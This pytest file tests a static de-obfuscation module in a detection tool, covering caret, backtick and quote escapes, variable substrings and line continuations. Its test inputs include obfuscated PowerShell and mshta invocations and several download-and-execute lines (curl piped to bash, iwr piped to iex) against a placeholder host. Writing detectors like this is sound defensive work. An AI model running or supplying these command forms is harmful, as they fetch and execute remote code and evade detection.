"""Static de-obfuscation: each trick is undone without running anything."""

import pytest

from app.detection.deobfuscate import deobfuscate, expand_variables


@pytest.mark.parametrize(
    ("obfuscated", "expected"),
    [
        ("p^o^w^e^r^s^h^e^l^l -c x", "powershell -c x"),
        ("f^^i^^n^^g^^e^^r user@host", "finger user@host"),
        ("i`e`x (n`e`w-ob`ject Net.WebClient)", "iex (new-object Net.WebClient)"),
        ('p"o"w"e"r"s"h"e"l"l', "powershell"),
        ("po''wer''shell", "powershell"),
        ("& ('ms'+'hta') 'https://x'", "& ('mshta') 'https://x'"),
        ("(\"{1}{0}\" -f 'hta','ms')", "'mshta'"),
    ],
)
def test_shell_escapes_and_concatenation(obfuscated: str, expected: str) -> None:
    assert deobfuscate(obfuscated) == expected


def test_set_variables_are_expanded_for_bang_and_percent() -> None:
    text = 'cmd /v:on /c "set x=pow&&set y=ershell&&call !x!!y! -e AAAA"'
    assert "call powershell -e AAAA" in expand_variables(text)
    assert "%x%%y%" not in expand_variables("set x=pow&&set y=ershell&&%x%%y% -c 1")


def test_comspec_substring_gives_letters() -> None:
    # C:\WINDOWS\system32\cmd.exe: the last six characters start with "cmd.ex"
    assert expand_variables("%COMSPEC:~-7,3%") == "cmd"
    assert expand_variables("%windir:~3,1%") == "W"


def test_powershell_env_index_join() -> None:
    assert expand_variables("&($env:ComSpec[4,15,25]-join'') (x)").lower() == "&(iex) (x)"
    assert expand_variables("$PSHome[4]+$PSHome[30]") == "i+e"


def test_unknown_variables_are_left_alone() -> None:
    assert expand_variables("%NOPE:~1,2%") == "%NOPE:~1,2%"


def test_ordinary_text_is_unchanged() -> None:
    text = "Meeting moved to 3pm tomorrow, bring the quarterly numbers."
    assert deobfuscate(text) == text


@pytest.mark.parametrize(
    ("text", "joined"),
    [
        ("curl -fsSL https://x.test/i.sh \\\n  | bash", "curl -fsSL https://x.test/i.sh  | bash"),
        ("curl -fsSL https://x.test/i.sh \\\r\n | zsh", "curl -fsSL https://x.test/i.sh  | zsh"),
        ("iwr https://x.test/a.ps1 `\n | iex", "iwr https://x.test/a.ps1  | iex"),
        ("curl -o a.exe https://x.test/a.exe ^\n && a.exe", "curl -o a.exe https://x.test/a.exe  && a.exe"),
        # a backslash, backtick or caret that does not end its line continues nothing
        ("echo a \\ \nbash", "echo a \\ \nbash"),
        ("one line\nand another", "one line\nand another"),
    ],
)  # fmt: skip
def test_a_line_continued_on_the_next_is_one_command(text: str, joined: str) -> None:
    assert deobfuscate(text) == joined
